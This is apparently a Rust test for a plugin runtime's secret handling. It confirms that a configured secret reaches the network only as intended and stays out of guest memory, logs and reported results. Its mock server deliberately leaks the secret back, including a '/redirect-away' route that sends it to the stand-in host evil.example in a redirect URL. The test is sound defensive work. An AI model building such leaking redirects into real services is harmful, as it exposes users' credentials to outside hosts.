//! A secret that was used in every way is nowhere but on the wire: not in the guest's memory, not in the log, not in what
//! is told of the attempt.

use std::sync::Arc;

use base64::{Engine as _, prelude::BASE64_STANDARD};
use serde_json::json;

use crate::{
    fixture::{component, configure, delivery, event, runtime_with, settings},
    heard::listen,
    receiver::{Received, Receiver, answer, ok},
};

/// With letters that URLs, JSON and HTML write differently.
const SECRET: (&str, &str) = ("SECRET", "s3cr3t/k&y<\"7\">+value");
/// What stands in every spelling of it, and nowhere else.
const TRACES: [&str; 2] = ["s3cr3t", "+value"];

/// Repeats all that it was sent, in every place that an answer has.
fn repeating(seen: &Received) -> Option<String> {
    let all: Vec<String> = seen.headers.iter().map(|(name, value)| format!("{name}: {value}")).collect();
    let token =
        seen.header("x-token").or_else(|| seen.header("authorization")).unwrap_or_default().to_owned();
    let told = format!("{} {}\n{}\n{}", seen.method, seen.path, all.join("\n"), seen.body);
    let path = seen.path.split('?').next().unwrap_or_default();
    match path {
        "/token" => {
            ok(&json!({"access_token": format!("given-{}", told.len()), "expires_in": 3600}).to_string())
        }
        "/token-refused" => {
            answer("401 No", "", &json!({"error": told, "error_description": told}).to_string())
        }
        "/token-garbage" => ok(&told),
        "/status-line" => Some(format!("HTTP/1.1 500 {token} is wrong\r\ncontent-length: 0\r\n\r\n")),
        "/garbage" => Some(format!("{token} is no HTTP\r\n\r\n")),
        "/redirect" if seen.path.contains('?') => {
            answer("302 Found", &format!("location: /again/{token}{}\r\n", &seen.path[path.len()..]), &told)
        }
        "/redirect-away" => {
            answer("302 Found", &format!("location: http://evil.example/{token}?{token}\r\n"), &told)
        }
        "/redirect-nowhere" => answer("302 Found", &format!("location: http://{token}/\r\n"), &told),
        _ => answer(
            "500 Broken",
            &format!("x-repeat: {token}\r\nset-cookie: t={token}\r\nlocation: {token}\r\n"),
            &told,
        ),
    }
}

fn assert_silent(what: &str, bytes: &[u8]) {
    let encoded = BASE64_STANDARD.encode(SECRET.1);
    let traces = TRACES.iter().map(|trace| trace.as_bytes()).chain([&encoded.as_bytes()[..16]]);
    for trace in traces {
        let at = bytes.windows(trace.len()).position(|window| window == trace);
        let near = at.map(|at| {
            String::from_utf8_lossy(&bytes[at.saturating_sub(200)..(at + 100).min(bytes.len())]).into_owned()
        });
        assert_eq!(near, None, "{what}");
    }
}

#[tokio::test]
async fn a_secret_is_nowhere_but_on_the_wire() {
    for end in ["return", "fail", "panic"] {
        let service = Receiver::start(repeating).await;
        let collector = Receiver::start(|_| ok("")).await;
        let broken = format!("https://127.0.0.1:{}", service.port());
        let grants = json!({
            "http": [collector.origin(), broken, "http://nowhere.invalid"], "private_network": true,
        });
        let written = json!({
            "service": service.origin(), "secret": "${secret:SECRET}", "body": "{\"key\": \"${secret:SECRET}\"}",
            "broken": [broken, "http://nowhere.invalid"], "collector": collector.origin(), "end": end, "grants": grants,
            "limits": {"memory_mb": 64, "cpu_ms": 60_000, "result_bytes": 1 << 20, "log_lines": 1000, "log_bytes": 4 << 20},
        });
        let heard = listen();
        let runtime = runtime_with(settings(), &[SECRET]);
        let source = aftercommit_runtime::ComponentSource::File(component("test/memory"));
        let plugin = runtime.load("memory", source, None).await.unwrap();
        let action = Arc::new(configure(&plugin, written).await);
        let row = json!({"x": "${secret:SECRET}", "y": "acsecret0000"});
        let attempt = action.run(&event(row), delivery()).await;

        let seen = service.seen();
        let used = seen.iter().filter(|it| format!("{it:?}").contains("s3cr3t")).count();
        assert!(used >= 10, "it was used {used} times of {}", seen.len());
        let basic = BASE64_STANDARD.encode(format!("user:{}", SECRET.1));
        assert!(seen.iter().any(|it| it.header("authorization") == Some(&format!("Basic {basic}"))));
        assert!(seen.iter().any(|it| it.body.contains("s3cr3t/k&y<\\\"7\\\">+value")), "in a body, as JSON");
        assert!(
            seen.iter()
                .any(|it| it.header("authorization").is_some_and(|it| it.starts_with("Bearer given-")))
        );

        let pages: Vec<Received> = collector.seen().into_iter().filter(|it| it.path == "/page").collect();
        assert!(pages.len() >= 16, "{} pages of memory", pages.len());
        let digit = |digit: u8| char::from(digit).to_digit(16).and_then(|it| u8::try_from(it).ok()).unwrap();
        let bytes = |page: &Received| -> Vec<u8> {
            page.body.as_bytes().chunks(2).map(|it| digit(it[0]) << 4 | digit(it[1])).collect()
        };
        let memory: Vec<u8> = pages.iter().flat_map(bytes).collect();
        let holds = |text: &str| memory.windows(text.len()).any(|window| window == text.as_bytes());
        assert!(holds("acsecret") && holds("x-repeat") && holds("[secret]"), "this is the guest's memory");
        assert!(holds("${secret:SECRET}"), "event data is plain text");
        assert_silent("the guest's memory", &memory);
        assert_silent("what the collector was sent", format!("{:?}", collector.seen()).as_bytes());
        let log = heard.text();
        assert!(log.contains("request failed") && log.contains("a request was denied"), "{log}");
        assert_silent("the log", log.as_bytes());
        let told = format!("{attempt:?} {action:?} {plugin:?} {:?}", action.effective_grants());
        assert_eq!(attempt.result.is_ok(), end == "return", "{told}");
        assert_silent("the attempt", told.as_bytes());
    }
}
